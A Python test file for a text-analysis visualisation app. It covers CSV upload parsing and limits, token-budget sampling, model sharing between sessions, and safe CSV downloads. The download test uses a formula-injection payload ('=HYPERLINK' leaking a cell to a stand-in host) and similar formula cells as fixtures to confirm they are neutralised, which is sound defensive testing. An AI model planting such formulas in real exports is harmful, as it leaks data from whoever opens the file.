"""The pieces behind the pages that read many texts (Contrast and the probe): what the probe
accepts of a CSV and how much of it one run reads, the model's time shared with other sessions,
the small sample Contrast keeps per sentence, and CSV downloads a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import threading
import tomllib
import tracemalloc
from collections import Counter
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from viz.analysis import contrast, probe
from viz.errors import UserError
from viz.extract import POOLINGS, pooled_embeddings, shared_pooled_embeddings, token_counts
from viz.ui.widgets import csv_bytes

ROOT = Path(__file__).resolve().parents[2]


def code_of(data: bytes) -> tuple[str, dict]:
    with pytest.raises(UserError) as err:
        probe.read_labelled_csv(data)
    return err.value.code, err.value.params


# ---------------------------------------------------------------- the CSV
def test_a_csv_with_old_mac_line_endings_is_read():
    data = probe.read_labelled_csv(b"text,label\rgood film,pos\rbad film,neg\rfine,pos\rdull,neg\r")
    assert data.texts == ("good film", "bad film", "fine", "dull")
    assert data.labels == ("pos", "neg", "pos", "neg")


def test_a_quoted_line_break_survives_any_line_ending():
    data = probe.read_labelled_csv(b'text,label\r\n"two\r\nlines",a\r\nb,c\r\nd,a\r\ne,c\r\n')
    assert data.texts[0] == "two\r\nlines" and len(data.texts) == 4


def test_an_unclosed_quote_says_where_it_opens():
    code, params = code_of(b'text,label\ngood,pos\n"bad film,neg\nfine,pos\ndull,neg\n')
    assert code == "csv_open_quote" and params == {"line": 3}
    assert "Line 3 opens a quote" in str(UserError(code, **params))


def test_an_unclosed_quote_at_the_last_row_and_past_the_field_limit():
    code, params = code_of(b'text,label\na,x\nb,y\nc,x\nd,y\n"e,x\n')
    assert (code, params) == ("csv_open_quote", {"line": 6})
    code, params = code_of(b'text,label\na,x\n"' + b"word " * 40_000 + b",y\n")
    assert (code, params) == ("csv_open_quote", {"line": 3})  # not 'field larger than limit'


def test_quotes_inside_texts_are_not_taken_for_open_ones():
    data = probe.read_labelled_csv(b'text,label\n"a 5"" screen",x\n5" tv,y\n"ok",x\nfine,y\n')
    assert data.texts == ('a 5" screen', '5" tv', "ok", "fine")


def test_blank_lines_are_refused_by_count_without_holding_them():
    tracemalloc.start()
    try:
        code, params = code_of(b"text,label\n" + b"\n" * 4_000_000)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == "csv_too_many_rows" and params["rows"] == 4_000_000
    assert peak < 40 * 2**20  # a list of four million rows would be ~300 MB


def test_the_probe_and_the_uploader_have_one_limit():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == probe.MAX_UPLOAD_MB
    # the uploader counts a megabyte as 10**6 bytes ("5.0MB") on Linux and macOS
    assert probe.MAX_UPLOAD_BYTES == probe.MAX_UPLOAD_MB * 10**6
    probe.check_size(5_000_000)
    with pytest.raises(UserError) as err:
        probe.check_size(5_100_000)
    assert str(err.value).startswith("The file is 5.1 MB; the limit is 5 MB.")


# ---------------------------------------------------------------- how much one run reads
def test_rows_within_budget_are_all_read():
    labels = ["a", "b"] * 10
    assert probe.within_budget(labels, np.full(20, 50), budget=1000).tolist() == list(range(20))


def test_rows_over_budget_are_sampled_keeping_each_labels_share():
    rng = np.random.default_rng(1)
    labels = ["a"] * 600 + ["b"] * 300 + ["c"] * 100
    tokens = rng.integers(10, 129, size=len(labels))
    rows = probe.within_budget(labels, tokens, budget=20_000)
    assert tokens[rows].sum() <= 20_000 and len(rows) > 200
    assert np.all(np.diff(rows) > 0)  # in file order
    share = Counter(labels[i] for i in rows)
    for label, n in (("a", 600), ("b", 300), ("c", 100)):
        assert share[label] / len(rows) == pytest.approx(n / 1000, abs=0.02)
    assert rows.tolist() == probe.within_budget(labels, tokens, budget=20_000).tolist()


def test_a_sample_keeps_two_of_a_rare_label_and_obeys_a_row_limit():
    labels = ["a"] * 998 + ["b"] * 2
    rows = probe.within_budget(labels, np.full(1000, 100), budget=5_000)
    assert Counter(labels[i] for i in rows)["b"] == 2
    rows = probe.within_budget(["a", "b"] * 500, np.full(1000, 3), budget=10**6, max_rows=100)
    assert len(rows) == 100


# ---------------------------------------------------------------- the model, shared
def test_token_counts_come_from_the_tokenizer(bundled):
    texts = ["The river bank.", "", "我们在银行见面"]
    lengths, unknown = token_counts(bundled, texts)
    ids = [bundled.tokenizer(t if t.strip() else " ")["input_ids"] for t in texts]
    assert lengths.tolist() == [len(i) for i in ids]
    unk = bundled.tokenizer.unk_token_id
    assert unknown.tolist() == [i.count(unk) for i in ids] and unknown[0] == 0 and unknown[2] > 0


def test_shared_embeddings_match_and_read_short_batches(bundled):
    words = "the bank of the river was closed on monday and we sat by the water".split()
    rng = np.random.default_rng(0)
    texts = [" ".join(rng.choice(words, n)) for n in rng.integers(2, 300, size=20)]
    seen: list[tuple[int, int]] = []
    hook = bundled.base.register_forward_pre_hook(
        lambda module, args, kwargs: seen.append(tuple(kwargs["input_ids"].shape)),
        with_kwargs=True,
    )
    try:
        shared = shared_pooled_embeddings(bundled, texts, POOLINGS, 128, batch_tokens=512)
    finally:
        hook.remove()
    assert seen and all(rows * length <= 512 and length <= 128 for rows, length in seen)
    assert sum(rows for rows, _ in seen) == len(texts)
    plain = pooled_embeddings(bundled, texts, POOLINGS, batch_size=32, max_tokens=128)
    for how in POOLINGS:
        np.testing.assert_allclose(shared[how], plain[how], atol=2e-5)


def test_another_session_gets_the_model_while_a_probe_embeds(bundled):
    """A trace waiting for the encoder's lock runs between two of the probe's batches, not
    after the whole run."""
    texts = ["the bank of the river " * 25] * 32  # 32 texts cut at 128 tokens: 4 per batch
    progress: list[float] = []
    started = threading.Event()

    def report(p: float) -> None:
        progress.append(p)
        started.set()

    worker = threading.Thread(
        target=shared_pooled_embeddings,
        args=(bundled, texts, ("mean",), 128),
        kwargs={"batch_tokens": 512, "progress": report},
    )
    worker.start()
    started.wait(60)
    with bundled.lock:  # what capture() takes for another session's trace
        at = progress[-1]
    worker.join()
    assert at < 1.0 and progress[-1] == 1.0


# ---------------------------------------------------------------- Contrast's baseline sample
def test_the_baseline_sample_is_small_fixed_and_all_of_a_short_sentence():
    hidden = np.random.default_rng(0).normal(size=(7, 500, 8)).astype(np.float32)
    sample = contrast.token_sample(hidden, 32)
    assert sample.shape == (7, 32, 8)
    np.testing.assert_array_equal(sample, contrast.token_sample(hidden, 32))
    assert not np.shares_memory(sample, hidden)  # the sentence's states are not kept alive
    short = hidden[:, :20]
    np.testing.assert_array_equal(contrast.token_sample(short, 32), short)
    assert not np.shares_memory(contrast.token_sample(short, 32), hidden)


# ---------------------------------------------------------------- downloads
def test_csv_downloads_cannot_run_formulas_and_keep_numbers():
    cells = ['=HYPERLINK("http://x/?leak="&A1,"x")', "=1+1", "+1+A1", "-2+3", "@SUM(A1)"]
    cells += ["\tx", "\rx", "-1", "+2.5e3", "plain", "银行"]
    frame = pd.DataFrame({"text": cells, "n": range(-5, 6), "d0": np.linspace(-1, 1, 11)})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[0] == ["text", "n", "d0"]
    shown = [r[0] for r in rows[1:]]
    assert shown[:7] == ["'" + c for c in cells[:7]]
    assert shown[7:] == ["-1", "+2.5e3", "plain", "银行"]  # plain numbers and words unchanged
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(-5, 6)]
    assert float(rows[1][2]) == -1.0
